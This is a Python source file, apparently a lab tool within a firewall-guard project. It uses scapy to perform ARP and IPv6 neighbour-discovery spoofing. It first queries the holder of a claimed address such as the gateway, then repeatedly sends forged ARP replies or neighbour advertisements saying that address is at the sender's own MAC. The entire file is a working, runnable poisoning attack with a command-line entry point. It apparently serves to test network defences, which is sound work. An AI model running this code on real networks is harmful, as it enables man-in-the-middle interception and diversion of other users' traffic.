"""A host that tells another on its link that the gateway is here: by ARP, or by neighbour discovery over v6.

Started as `python -m fwguard.lab.false_neighbour INTERFACE OWN CLAIMED VICTIM`, addresses of one family. First it
asks for the claimed address as every host does, and its holder answers; then it tells the victim otherwise, again
and again, to the card that answered: on a routed port that is who passes frames on. Sources: RFC 826, RFC 4861
sections 4.3 and 4.4.
"""

from __future__ import annotations

import sys
from socket import AF_INET6
from typing import Any, Final

CLAIMS: Final = 6
CLAIM_EVERY_S: Final = 0.2
ANSWER_S: Final = 2.0
_EVERYBODY: Final = "ff:ff:ff:ff:ff:ff"


def question(own: str, mac: str, wanted: str) -> Any:
    """Return the frame with which a host asks who has an address."""
    from scapy.layers.inet6 import ICMPv6ND_NS, ICMPv6NDOptSrcLLAddr, IPv6
    from scapy.layers.l2 import ARP, Ether
    from scapy.pton_ntop import inet_ntop, inet_pton
    from scapy.utils6 import in6_getnsma, in6_getnsmac

    if ":" not in wanted:
        return Ether(src=mac, dst=_EVERYBODY) / ARP(op=1, hwsrc=mac, psrc=own, pdst=wanted)
    group = in6_getnsma(inet_pton(AF_INET6, wanted))
    return (
        Ether(src=mac, dst=in6_getnsmac(group))
        / IPv6(src=own, dst=inet_ntop(AF_INET6, group), hlim=255)
        / ICMPv6ND_NS(tgt=wanted)
        / ICMPv6NDOptSrcLLAddr(lladdr=mac)
    )


def claim(mac: str, claimed: str, victim: str, victim_mac: str) -> Any:
    """Return the frame that tells a victim that an address is at `mac`."""
    from scapy.layers.inet6 import ICMPv6ND_NA, ICMPv6NDOptDstLLAddr, IPv6
    from scapy.layers.l2 import ARP, Ether

    if ":" not in claimed:
        words = ARP(op=2, hwsrc=mac, psrc=claimed, hwdst=victim_mac, pdst=victim)
        return Ether(src=mac, dst=victim_mac) / words
    return (
        Ether(src=mac, dst=victim_mac)
        / IPv6(src=claimed, dst=victim, hlim=255)
        / ICMPv6ND_NA(tgt=claimed, R=0, S=1, O=1)
        / ICMPv6NDOptDstLLAddr(lladdr=mac)
    )


def main(interface: str, own: str, claimed: str, victim: str) -> int:
    """Ask, then claim; return the exit code: 1 when nobody holds the address."""
    from scapy.arch import get_if_hwaddr
    from scapy.sendrecv import sendp, srp1

    mac = get_if_hwaddr(interface)
    answer = srp1(question(own, mac, claimed), iface=interface, timeout=ANSWER_S, verbose=False)
    if answer is None:
        print(f"nobody answers for {claimed}")
        return 1
    false = claim(mac, claimed, victim, answer.src)
    sendp(false, iface=interface, count=CLAIMS, inter=CLAIM_EVERY_S, verbose=False)
    print(f"{CLAIMS} times: {claimed} is at {mac}, not at {answer.src}")
    return 0


if __name__ == "__main__":
    sys.exit(main(*sys.argv[1:5]))
